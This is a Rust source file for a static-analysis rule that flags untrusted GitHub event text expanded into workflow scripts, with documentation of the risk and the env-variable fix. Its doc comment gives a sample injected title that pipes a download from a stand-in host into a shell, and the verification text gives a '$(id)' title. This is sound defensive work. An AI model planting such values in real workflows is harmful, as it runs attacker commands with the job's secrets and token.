use super::contexts::{attacker_controlled, populating_events};
use super::expr::{Path, display, flowing_paths, starts_with};
use super::model::{Document, Job, Step, Text, Workflow};
use super::{expressions_in, is_actions, line_within, workflow};
use crate::{FileContext, FileRule, TextFile, TextKind, declare_rule};
use sechound_core::{Confidence, Severity};

declare_rule! {
    /// ## What it finds
    /// A `${{ … }}` expression that expands text an outside contributor chose (an issue or pull
    /// request title or body, a comment, a branch name, a commit message, an author name ...)
    /// inside a `run:` script, the `script:` of `actions/github-script` or the code input of a
    /// few other actions that run one (PowerShell, Python, SSH scripts). Also followed through
    /// `${{ env.NAME }}` when `NAME` is set from such a value.
    ///
    /// Inputs (`inputs.*`) of a reusable workflow or of a composite action are reported at low
    /// confidence: whether they carry untrusted text depends on the callers.
    ///
    /// ## Why it matters
    /// Expressions are expanded into the script's text before the shell (or Node) runs it, so a
    /// title like `"; curl evil.sh | sh; "` becomes part of the command, with the job's
    /// secrets and token at hand.
    ///
    /// ## Not reported
    /// Expressions that evaluate to a boolean or number (`contains(github.event.issue.title,
    /// 'bug')`, `github.event.pull_request.number`), values passed through `env:` and read as
    /// a quoted shell variable (the fix), typed `boolean`/`number`/`choice` inputs, and inputs of
    /// workflows that only `workflow_dispatch` starts (only people with write access can).
    /// Values of `steps.*.outputs` and `needs.*.outputs` are not followed, nor event fields the
    /// workflow's triggers never fill (`github.event.issue.title` in a workflow only `push`
    /// starts). In a workflow that
    /// only `pull_request` triggers the finding is medium: a fork's pull request runs its own
    /// version of the workflow with a read-only token anyway.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "${{ github.event.issue.title }}"    # reported
    /// - run: echo "$TITLE"                              # fine
    ///   env:
    ///     TITLE: ${{ github.event.issue.title }}
    /// ```
    pub struct TemplateInjection {
        id: "gha.template-injection",
        title: "Untrusted text expanded into a workflow script",
        severity: High,
        confidence: High,
        area: Infrastructure,
        cwe: [78, 94],
        owasp: A03,
        effort: Minutes,
        impact: "Anyone who can open an issue, a pull request or a comment can run commands in the job, with its secrets and its token.",
        recommendation: "Pass the value through `env:` and use it as a quoted variable: `env: { TITLE: ${{ github.event.issue.title }} }` and `echo \"$TITLE\"` (in `actions/github-script`, read `process.env.TITLE` or `context.payload`). Never put `${{ … }}` of untrusted text inside a script.",
        verification: "The script holds no `${{ … }}` of event text, only quoted environment variables; an issue titled `$(id)` is printed literally; `sechound review` no longer reports the line.",
    }
}

impl FileRule for TemplateInjection {
    fn meta(&self) -> &'static sechound_core::RuleMeta {
        &Self::META
    }

    fn applies_to(&self, kind: TextKind) -> bool {
        is_actions(kind)
    }

    fn check(&self, file: &TextFile<'_>, cx: &mut FileContext) {
        let Some(workflow) = workflow(file) else {
            return;
        };
        let src = file.text();
        let only_pull_request = !workflow.triggers.is_empty()
            && workflow.triggers.iter().all(|t| t.value == "pull_request");
        for (job, step) in workflow.all_steps() {
            for (sink, script) in sinks(step) {
                for (range, inner) in expressions_in(src, script) {
                    let Some(taint) = classify(workflow, job, step, src, inner) else {
                        continue;
                    };
                    let message = format!(
                        "`{}` is expanded into {sink}{}.{}",
                        taint.context,
                        taint
                            .via
                            .as_ref()
                            .map(|v| format!(" through `env.{v}`"))
                            .unwrap_or_default(),
                        taint.note,
                    );
                    let finding = cx.report(line_within(src, &script.range, range.start), message);
                    finding.confidence(taint.confidence);
                    if taint.confidence == Confidence::Low || only_pull_request {
                        finding.severity(Severity::Medium);
                    }
                }
            }
        }
    }
}

/// Actions that run one of their inputs as code, with those inputs.
const SCRIPT_INPUTS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/powershell", &["inlinescript"]),
    ("azure/cli", &["inlinescript"]),
    ("mathiasvr/command-output", &["run"]),
];

/// The scripts of a step: its `run:`, or the code input of an action that runs one.
fn sinks(step: &Step) -> Vec<(String, &Text)> {
    let mut out = Vec::new();
    if let Some(run) = &step.run {
        out.push(("a `run:` script".to_string(), run));
    }
    for (action, inputs) in SCRIPT_INPUTS {
        if !step.uses_action(action) {
            continue;
        }
        for (key, value) in &step.with {
            if inputs.iter().any(|i| key.value.eq_ignore_ascii_case(i)) {
                out.push((format!("the `{}` input of `{action}`", key.value), value));
            }
        }
    }
    out
}

struct Taint {
    context: String,
    /// The `env:` variable the value came through.
    via: Option<String>,
    confidence: Confidence,
    note: String,
}

/// Whether `${{ inner }}` in a script of `step` can expand untrusted text.
fn classify(
    workflow: &Workflow,
    job: Option<&Job>,
    step: &Step,
    src: &str,
    inner: &str,
) -> Option<Taint> {
    let mut weak = None;
    for path in flowing_paths(inner) {
        if attacker_controlled(&path) && can_be_set(workflow, &path) {
            return Some(Taint {
                context: display(&path),
                via: None,
                confidence: Confidence::High,
                note: " Its text is chosen by whoever opens the issue, pull request or comment, and becomes part of the script.".into(),
            });
        }
        if starts_with(&path, &["env"])
            && path.len() == 2
            && let Some(value) = workflow.env_value(job, step, &original_case(inner, &path[1]))
        {
            let attacker = expressions_in(src, value)
                .into_iter()
                .flat_map(|(_, i)| flowing_paths(i))
                .find(attacker_controlled);
            if let Some(source) = attacker {
                return Some(Taint {
                    context: display(&source),
                    via: Some(original_case(inner, &path[1])),
                    confidence: Confidence::High,
                    note: " Reading it as `${{ env.… }}` expands it into the script all the same; use the shell variable (`\"$NAME\"`) instead.".into(),
                });
            }
        }
        if weak.is_none()
            && let Some(note) = untrusted_input(workflow, &path)
        {
            weak = Some(Taint {
                context: display(&path),
                via: None,
                confidence: Confidence::Low,
                note,
            });
        }
    }
    weak
}

/// False when the workflow's own triggers never fill `path` (`github.event.issue.title` in a
/// workflow that only `push` starts expands to nothing). Reusable workflows and actions run on
/// their callers' events: anything can be set there.
fn can_be_set(workflow: &Workflow, path: &Path) -> bool {
    if workflow.document != Document::Workflow
        || workflow.triggers.is_empty()
        || workflow.triggered_by("workflow_call")
    {
        return true;
    }
    populating_events(path).is_none_or(|events| events.iter().any(|e| workflow.triggered_by(e)))
}

/// For `inputs.NAME` (or `github.event.inputs.NAME`) of a reusable workflow or an action whose
/// value callers choose, why it may be untrusted.
fn untrusted_input(workflow: &Workflow, path: &Path) -> Option<String> {
    let name = if starts_with(path, &["inputs"]) && path.len() == 2 {
        &path[1]
    } else if starts_with(path, &["github", "event", "inputs"]) && path.len() == 4 {
        &path[3]
    } else {
        return None;
    };
    let input = workflow
        .inputs
        .iter()
        .find(|i| i.name.eq_ignore_ascii_case(name));
    if input
        .and_then(|i| i.kind.as_deref())
        .is_some_and(|k| matches!(k, "boolean" | "number" | "choice" | "environment"))
    {
        return None;
    }
    match workflow.document {
        Document::Action => Some(
            " Callers of this action choose the input; if any passes event text (a title, a branch name), it becomes part of the script."
                .into(),
        ),
        _ if workflow.triggered_by("workflow_call") => Some(
            " Callers of this reusable workflow choose the input; if any passes event text, it becomes part of the script."
                .into(),
        ),
        _ => None,
    }
}

/// `name` as the expression spells it (environment variable names are case-sensitive in the
/// shell; the expression's paths are lower-cased).
fn original_case(inner: &str, name: &str) -> String {
    let lower = inner.to_ascii_lowercase();
    match lower.find(&format!("env.{name}")) {
        Some(at) => inner[at + 4..at + 4 + name.len()].to_string(),
        None => name.to_string(),
    }
}
